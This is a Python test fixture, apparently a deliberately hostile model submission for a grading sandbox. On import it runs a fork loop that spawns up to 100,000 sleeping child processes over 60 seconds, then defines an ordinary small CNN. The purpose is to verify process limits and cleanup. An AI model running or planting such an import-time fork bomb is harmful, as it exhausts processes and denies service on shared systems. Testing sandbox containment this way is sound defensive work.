"""Hostile: at import forks in a loop for up to 60 s (fork errors caught), each child sleeps 10 min, then
defines a correct model. The process limit must contain it; grading must finish within budget and
leave no process behind.
"""
import os
import time

import torch
import torch.nn as nn
import torch.nn.functional as F

_children = 0
_failures = 0
_end = time.monotonic() + 60
while time.monotonic() < _end and _children < 100_000:
    try:
        _pid = os.fork()
    except OSError:
        _failures += 1
        if _failures >= 1000:
            break
        time.sleep(0.001)
        continue
    if _pid == 0:  # child: sleep, never return to the importer
        try:
            time.sleep(600)
        finally:
            os._exit(0)
    _children += 1
print(f"fork_bomb: {_children} children started, {_failures} forks refused", flush=True)


class SimpleCNN(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(3, 16, kernel_size=3, padding=1)
        self.pool = nn.MaxPool2d(kernel_size=2, stride=2)
        self.conv2 = nn.Conv2d(16, 32, kernel_size=3, padding=1)
        self.fc1 = nn.Linear(32 * 8 * 8, 128)
        self.fc2 = nn.Linear(128, 10)

    def forward(self, x):
        x = self.pool(F.relu(self.conv1(x)))
        x = self.pool(F.relu(self.conv2(x)))
        x = torch.flatten(x, 1)
        x = F.relu(self.fc1(x))
        return self.fc2(x)
